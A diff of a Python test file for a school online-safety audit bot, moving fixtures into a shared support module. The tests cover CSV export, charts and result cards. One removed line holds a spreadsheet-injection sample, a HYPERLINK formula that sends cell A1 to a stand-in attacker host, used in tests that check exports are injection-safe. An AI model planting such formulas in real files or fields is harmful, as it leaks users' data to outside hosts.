@@ -6,14 +6,11 @@ from __future__ import annotations
 import csv
 import dataclasses
 import io
-from datetime import UTC, datetime, timedelta
-from typing import Any
 from zoneinfo import ZoneInfo
 
 import pytest
 from PIL import Image
 
-from bot.app import Bot
 from bot.audit import chart
 from bot.audit.exports import (
     CSV_COLUMNS,
@@ -28,16 +25,9 @@ from bot.audit.present import (
     results_messages,
     status_card,
 )
-from bot.audit.questions import NEEDS_STEP, questions, seal_answers
 from bot.audit.results import (
-    Answer,
-    AuditResults,
     CampaignNotFound,
-    Comment,
     Progress,
-    QuestionCount,
-    Respondent,
-    TrainingNeeds,
     campaign_results,
     campaign_status,
     percent,
@@ -45,193 +35,22 @@ from bot.audit.results import (
 )
 from bot.delivery.messages import Card
 from bot.settings import PROJECT_ROOT
-from storage.models import AuditCampaign, AuditMessage, AuditParticipant
-
-ARTIFACTS = PROJECT_ROOT / "test-artifacts"
-START = datetime(2026, 9, 1, 8, 0, tzinfo=UTC)
-
-# The eight questions of the policy's Appendix 1, word for word, with short labels.
-QUESTIONS = [
-    (
-        "knows_lead",
-        "Do you know the name of the person who has lead responsibility for online safety in "
-        "school?",
-        "Knows the online-safety lead",
-    ),
-    (
-        "knows_concern",
-        "Do you know what you must do if a pupil approaches you with a concern or issue?",
-        "Knows what to do with a pupil's concern",
-    ),
-    (
-        "aup_staff",
-        "Are you familiar with the school's acceptable use agreement for staff, volunteers, "
-        "governors and visitors?",
-        "Staff acceptable use agreement",
-    ),
-    (
-        "filtering_systems",
-        "Are you familiar with the filtering and monitoring systems on the school's devices and "
-        "networks?",
-        "Filtering and monitoring systems",
-    ),
-    (
-        "filtering_role",
-        "Do you understand your role and responsibilities in relation to filtering and monitoring?",
-        "Own role in filtering and monitoring",
-    ),
-    (
-        "aup_pupils",
-        "Are you familiar with the school's acceptable use agreement for pupils and parents?",
-        "Pupil and parent acceptable use agreement",
-    ),
-    (
-        "passwords",
-        "Do you regularly change your password for accessing the school's ICT systems?",
-        "Changes passwords regularly",
-    ),
-    (
-        "cyberbullying",
-        "Are you familiar with the school's approach to tackling cyber-bullying?",
-        "Approach to cyber-bullying",
-    ),
-]
-NEEDS_PROMPT = (
-    "Are there any areas of online safety in which you would like training/further training?"
+from tests.support.audit_results import (
+    BOB_COMMENT,
+    BOB_REQUEST,
+    CARA_REQUEST,
+    DAN_SECRET,
+    EMAILS,
+    FORMULA,
+    NAMES,
+    NEEDS_PROMPT,
+    QUESTIONS,
+    results_of,
+    seed,
+    synthetic,
 )
 
-
-def spec() -> dict[str, Any]:
-    steps: list[dict[str, Any]] = []
-    for step_id, prompt, label in QUESTIONS:
-        steps.append({"id": step_id, "kind": "yes_no", "prompt": prompt, "label": label})
-        steps.append(
-            {
-                "id": f"{step_id}_comment",
-                "kind": "text",
-                "prompt": "Any comments?",
-                "label": "Comment",
-                "required": False,
-            }
-        )
-    steps.append(
-        {
-            "id": NEEDS_STEP,
-            "kind": "text",
-            "prompt": NEEDS_PROMPT,
-            "label": "Training needs",
-            "required": False,
-        }
-    )
-    return {"id": "staff_audit", "title": "Online-safety self-audit", "steps": steps}
-
-
-ALL_YES = {step_id: "yes" for step_id, _, _ in QUESTIONS}
-FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-BOB_COMMENT = "Never been shown the filtering reports."
-BOB_REQUEST = "Sexting and sharing nudes"
-CARA_REQUEST = "+44 phone scams aimed at parents"
-DAN_SECRET = "UNFINISHED-SECRET comment"
-
-# name, email, channel, status, answers, invitation status
-PEOPLE: list[tuple[str, str, str, str, dict[str, str | None] | None, str]] = [
-    (
-        "Alice Able",
-        "alice@school.example",
-        "slack",
-        "finished",
-        {**ALL_YES, "knows_lead_comment": FORMULA, NEEDS_STEP: "None, thanks."},
-        "sent",
-    ),
-    (
-        "Bob Brown",
-        "bob@school.example",
-        "teams",
-        "finished",
-        {
-            **ALL_YES,
-            "filtering_systems": "no",
-            "filtering_systems_comment": BOB_COMMENT,
-            "filtering_role": "no",
-            NEEDS_STEP: BOB_REQUEST,
-        },
-        "sent",
-    ),
-    (
-        "Cara Cole",
-        "cara@school.example",
-        "web",
-        "finished",
-        {**ALL_YES, "knows_concern": None, "passwords": "no", NEEDS_STEP: CARA_REQUEST},
-        "sent",
-    ),
-    (
-        "Dan Dee",
-        "dan@school.example",
-        "slack",
-        "started",
-        {"knows_lead": "no", "knows_lead_comment": DAN_SECRET},
-        "sent",
-    ),
-    ("Eve Evans", "eve@school.example", "teams", "invited", None, "dead"),
-    ("Fay Ford", "fay@school.example", "slack", "invited", None, "pending"),
-]
-NAMES = [p[0] for p in PEOPLE]
-EMAILS = [p[1] for p in PEOPLE]
-
-
-async def seed(bot: Bot, people: list[Any] = PEOPLE, closed: bool = False) -> int:
-    """A campaign, its participants (answers sealed with the bot's cipher) and invitations."""
-    async with bot.router.sessions() as session, session.begin():
-        campaign = AuditCampaign(
-            academic_year="2026-27",
-            flow_id="staff_audit",
-            flow_spec=spec(),
-            started_at=START,
-            started_by="scheduler",
-            closes_at=START + timedelta(days=28),
-            closed_at=START + timedelta(days=28) if closed else None,
-        )
-        session.add(campaign)
-        await session.flush()
-        for k, (name, email, channel, status, answers, invite) in enumerate(people):
-            participant = AuditParticipant(
-                campaign_id=campaign.id,
-                email=email,
-                display_name=name,
-                channel=channel,
-                status=status,
-                invited_at=START,
-                started_at=START + timedelta(days=1) if status != "invited" else None,
-                finished_at=START + timedelta(days=2, hours=k) if status == "finished" else None,
-                reminders_sent=0,
-                updated_at=START,
-            )
-            session.add(participant)
-            await session.flush()
-            if answers is not None:  # sealed for its row: the id first
-                seal_answers(bot.cipher, participant, answers)
-            session.add(
-                AuditMessage(
-                    participant_id=participant.id,
-                    campaign_id=campaign.id,
-                    channel=channel,
-                    recipient_email=email,
-                    kind="invite",
-                    n=0,
-                    status=invite,
-                    attempts=1,
-                    next_attempt_at=START,
-                    created_at=START,
-                    sent_at=START if invite == "sent" else None,
-                )
-            )
-        return campaign.id
-
-
-async def results_of(bot: Bot, campaign_id: int) -> AuditResults:
-    async with bot.router.sessions() as session:
-        return await campaign_results(session, bot.cipher, campaign_id)
+ARTIFACTS = PROJECT_ROOT / "test-artifacts"
 
 
 async def test_status_counts_invitations_starts_and_finishes_per_channel(make_bot):
@@ -353,7 +172,7 @@ async def test_csv_has_a_row_per_person_and_question_and_is_injection_safe(make_
 
 
 def test_csv_guards_every_formula_start():
-    results = _synthetic(finished=1)
+    results = synthetic(finished=1)
     person = results.respondents[0]
     for start in ("=", "+", "-", "@", "\t", "\r"):
         hostile = dataclasses.replace(person, name=f"{start}cmd", training_text=f"{start}x")
@@ -434,7 +253,7 @@ async def test_chart_is_a_readable_png(make_bot):
     ],
 )
 def test_chart_copes_with_nobody_finished_and_long_labels(finished, label):
-    results = _synthetic(finished=finished, label=label, unanswered=True)
+    results = synthetic(finished=finished, label=label, unanswered=True)
     image = Image.open(io.BytesIO(chart.results_chart_png(results)))
     assert image.size == chart.chart_size(results)
     assert len(image.convert("RGB").getcolors(maxcolors=1 << 20) or []) > 5
@@ -483,7 +302,7 @@ async def test_results_messages_for_the_dsl(make_bot):
 
 
 def test_long_lists_are_split_over_several_cards():
-    results = _synthetic(finished=45, comments=True)
+    results = synthetic(finished=45, comments=True)
     messages = results_messages(results)
     needs = [m for m in messages if isinstance(m, Card) and m.card_id.startswith("audit-needs")]
     comments = [m for m in messages if isinstance(m, Card) and m.card_id.startswith("audit-com")]
@@ -496,7 +315,7 @@ def test_long_lists_are_split_over_several_cards():
 
 
 def test_nothing_to_list_says_so():
-    results = _synthetic(finished=0)
+    results = synthetic(finished=0)
     _, needs, comments = results_messages(results)
     assert isinstance(needs, Card) and needs.text == "Nobody answered No or asked for training."
     assert isinstance(comments, Card) and comments.text == "Nobody added a comment."
@@ -517,68 +336,3 @@ def test_percentages_round_half_up():
         1,
         0,
     ]
-
-
-def _synthetic(
-    *, finished: int, label: str | None = None, unanswered: bool = False, comments: bool = False
-) -> AuditResults:
-    """Results built without a database: `finished` people, a pattern of answers."""
-    asked = questions(spec())
-    if label is not None:
-        asked[0] = dataclasses.replace(asked[0], label=label)
-    people = []
-    for k in range(finished):
-        answers = tuple(
-            Answer(
-                number=n,
-                question=q,
-                value=None
-                if unanswered and (k + n) % 11 == 0
-                else ("no" if (k + n) % 3 else "yes"),
-                comment=f"Comment {k}-{n} " + "words " * 40 if comments else None,
-            )
-            for n, q in enumerate(asked, start=1)
-        )
-        people.append(
-            Respondent(
-                name=f"Person {k:02}",
-                email=f"p{k}@school.example",
-                channel="web",
-                finished_at=START,
-                answers=answers,
-                training_text=f"Topic {k}",
-            )
-        )
-    counts = tuple(
-        QuestionCount(
-            number=n,
-            question=q,
-            yes=sum(1 for p in people if p.answers[n - 1].value == "yes"),
-            no=sum(1 for p in people if p.answers[n - 1].value == "no"),
-            unanswered=sum(1 for p in people if p.answers[n - 1].value is None),
-        )
-        for n, q in enumerate(asked, start=1)
-    )
-    return AuditResults(
-        campaign_id=7,
-        academic_year="2026-27",
-        closed_at=None,
-        questions=tuple(asked),
-        needs_prompt=NEEDS_PROMPT,
-        invited=finished + 5,
-        finished=finished,
-        unfinished=2,
-        not_started=3,
-        counts=counts,
-        respondents=tuple(people),
-        comments=tuple(
-            Comment(p.name, p.email, a.number, a.question.label, a.comment)
-            for p in people
-            for a in p.answers
-            if a.comment
-        ),
-        training_needs=tuple(
-            TrainingNeeds(p.name, p.email, p.needs, p.training_request) for p in people
-        ),
-        written_needs=(),
-    )
